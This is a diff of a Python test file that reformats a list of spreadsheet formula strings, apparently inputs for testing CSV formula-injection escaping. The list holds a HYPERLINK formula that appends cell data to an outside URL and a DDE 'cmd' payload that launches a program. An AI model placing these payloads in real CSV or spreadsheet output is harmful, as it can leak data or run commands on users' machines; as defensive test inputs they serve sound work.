@@ -11,9 +11,20 @@ from core.drawing.csv import csv_text
 from tests.sources import files_of, nodes_of
 
 FORMULAS = [
-    "=1+1", '=HYPERLINK("http://example.org?"&A1)', "+1+cmd|' /C calc'!A0", "-1+2", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
-    " =1+1", "＝1+1", "=", "-", "--", "-L1H2",
-]  # fmt: skip
+    "=1+1",
+    '=HYPERLINK("http://example.org?"&A1)',
+    "+1+cmd|' /C calc'!A0",
+    "-1+2",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
+    " =1+1",
+    "＝1+1",
+    "=",
+    "-",
+    "--",
+    "-L1H2",
+]
 
 
 @pytest.mark.parametrize("text", FORMULAS, ids=ascii)
